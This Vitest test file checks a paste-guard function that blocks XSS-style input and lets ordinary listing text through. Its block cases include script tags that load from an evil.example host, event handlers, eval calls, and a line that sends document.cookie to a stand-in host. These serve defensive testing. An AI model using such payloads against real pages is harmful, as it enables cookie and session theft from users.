import { describe, expect, it } from 'vitest';
import { isHarmfulPaste } from './paste-guard';

describe('isHarmfulPaste (spec §5)', () => {
  it.each([
    ['a script tag', '<script>alert(1)</script>'],
    ['a script tag with attributes and odd case', '<ScRiPt src="https://evil.example/x.js">'],
    ['a closing script tag with blanks', 'text </ script >'],
    ['a javascript: URL', 'javascript:alert(1)'],
    ['a javascript: URL in a link', '<a href="JavaScript:void(0)">click</a>'],
    ['a javascript: URL with a tab inside the scheme', 'java\tscript:alert(1)'],
    ['an inline event handler', '<img src=x onerror=alert(1)>'],
    ['an inline event handler with blanks and quotes', '<div onclick = "steal()">'],
    ['an event handler after a slash', '<svg/onload=alert(1)>'],
    ['an eval call', 'eval("2+2")'],
    ['an eval call with a blank', 'window.eval (code)'],
    ['document.cookie', 'fetch("https://x.example/?c=" + document.cookie)'],
    ['document["cookie"]', "document['cookie']"],
    ['localStorage', 'localStorage.getItem("token")'],
    ['sessionStorage', 'window.sessionStorage.clear()'],
    ['an entity-encoded script tag', '&lt;script&gt;alert(1)&lt;/script&gt;'],
    ['a numeric-entity script tag', '&#60;script&#62;'],
    ['a percent-encoded script tag', '%3Cscript%3Ealert(1)'],
    ['an entity-encoded javascript: URL', 'javascript&colon;alert(1)'],
  ])('blocks %s', (_label, text) => {
    expect(isHarmfulPaste(text)).toBe(true);
  });

  it.each([
    ['an empty paste', ''],
    ['an address', '123 Main Street, Austin, TX 78701'],
    ['a message about cookies', 'I baked cookies for the neighbours; the description says the kitchen is new.'],
    ['words containing "on"', 'Condition: done = ready, onsite parking available'],
    ['an e-mail address', 'ada.lovelace@example.com'],
    ['a https URL', 'https://dimora.example/property/12?ref=newsletter'],
    ['a price with percent', 'Rent $1,850 (10% off the first month)'],
    ['a description mentioning the word script', 'The manuscript of the lease is attached.'],
    ['a word starting with eval', 'Please evaluate my application (thanks).'],
    ['less-than in prose', 'Budget < 2000 and > 1500'],
  ])('lets %s through', (_label, text) => {
    expect(isHarmfulPaste(text)).toBe(false);
  });
});
